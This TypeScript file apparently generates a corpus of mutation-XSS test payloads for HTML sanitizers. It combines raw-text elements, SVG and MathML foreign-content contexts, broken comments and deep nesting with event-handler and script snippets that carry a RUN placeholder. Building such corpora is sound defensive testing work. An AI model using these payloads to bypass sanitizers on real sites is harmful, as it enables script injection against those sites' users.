import type { Payload } from './payload.ts';

/** What runs once it is out of the place where it was only text. */
const HIDDEN = ['<img src=x:x onerror=RUN>', '<svg onload=RUN>', '<script>RUN</script>', '<iframe src=javascript:RUN>'];

/** Elements whose content is text for one parser and markup for another. */
const RAW = [
  'noscript',
  'noembed',
  'noframes',
  'xmp',
  'iframe',
  'textarea',
  'title',
  'style',
  'script',
  'plaintext',
  'template',
  'select',
  'option',
  'listing',
  'comment',
  'frameset',
  'portal',
  'selectlist',
];

/** Foreign content, and the points where a parser goes back to HTML (HTML standard, "in foreign content"). */
const FOREIGN = [
  '<svg>',
  '<svg><style>',
  '<svg><title>',
  '<svg><desc>',
  '<svg><foreignObject>',
  '<svg><p>',
  '<svg><script>',
  '<math>',
  '<math><mtext>',
  '<math><mi>',
  '<math><mtext><mglyph>',
  '<math><mtext><malignmark>',
  '<math><annotation-xml>',
  '<math><annotation-xml encoding="text/html">',
  '<math><mtext><table><mglyph>',
  '<svg><textarea>',
  '<math><style>',
  '<svg><noscript>',
  '<svg><iframe>',
  '<svg><xmp>',
];

const WRAPS: readonly ((raw: string, hidden: string) => string)[] = [
  (raw, hidden) => `<${raw}><p title="</${raw}>${hidden}">`,
  (raw, hidden) => `<${raw}><p title='</${raw}>${hidden}'></${raw}>`,
  (raw, hidden) => `<${raw}><!--</${raw}>${hidden}-->`,
  (raw, hidden) => `<${raw}><a id="</${raw}>${hidden}"></a></${raw}>`,
  (raw, hidden) => `<svg><${raw}><p id="</${raw}>${hidden}"></svg>`,
  (raw, hidden) => `<math><${raw}><img alt="</${raw}></math>${hidden}">`,
  (raw, hidden) => `<div><${raw}></div>${hidden}</${raw}>`,
  (raw, hidden) => `<${raw}/>${hidden}`,
  (raw, hidden) => `<p><${raw} x="${hidden}"></p>${hidden}`,
];

const SHAPES: readonly ((foreign: string, hidden: string) => string)[] = [
  (foreign, hidden) => `${foreign}<style><!--</style><a title="--&gt;${quoted(hidden)}">`,
  (foreign, hidden) => `${foreign}<style><img title="</style>${hidden}">`,
  (foreign, hidden) => `<form>${foreign}</form><form>${foreign}<style></math>${hidden}`,
  (foreign, hidden) => `${foreign}<table><tr><td>${foreign}<style><!--</style>${hidden}--></style>`,
  (foreign, hidden) => `<p>${foreign}</p><style><a title="</style>${hidden}">`,
  (foreign, hidden) => `${foreign}<![CDATA[><a title="]]>${hidden}">`,
  (foreign, hidden) => `${foreign}<!--><a title="-->${hidden}">`,
  (foreign, hidden) => `${foreign}<a><b>${foreign}</a>${hidden}`,
];

const quoted = (html: string): string => html.replaceAll('<', '&lt;').replaceAll('>', '&gt;');

const COMMENTS = [
  '<!-->',
  '<!--->',
  '<!--a--!>',
  '<!-- --\u0000>',
  '<?xml ?>',
  '<!x>',
  '</ >',
  '<![CDATA[',
  '<!--<!--',
  '<!ENTITY x',
];

/** Markup that means one thing when it is cleaned and another when it is parsed again (mutation XSS). */
export const changedByParsing = (): Payload[] => [
  ...RAW.flatMap((raw, row) =>
    WRAPS.flatMap((wrap, column) =>
      HIDDEN.filter((_, at) => (row + column + at) % 2 === 0).map((hidden) => ({
        family: 'text that becomes markup',
        html: wrap(raw, hidden),
      })),
    ),
  ),
  ...FOREIGN.flatMap((foreign, row) =>
    SHAPES.flatMap((shape, column) =>
      HIDDEN.filter((_, at) => (row + column + at) % 2 === 0).map((hidden) => ({
        family: 'foreign content',
        html: shape(foreign, hidden),
      })),
    ),
  ),
  ...COMMENTS.flatMap((comment) =>
    HIDDEN.map((hidden) => ({ family: 'broken comment', html: `${comment}${hidden}-->]]>${hidden}` })),
  ),
  ...[50, 255, 256, 257, 511, 513, 1_000, 5_000].flatMap((depth) =>
    ['div', 'b', 'table><tr><td', 'svg', 'font', 'form><div'].map((element) => ({
      family: 'deep nesting',
      html: `${`<${element}>`.repeat(depth)}<svg><style><a title="</style><img src=x:x onerror=RUN>">`,
    })),
  ),
];
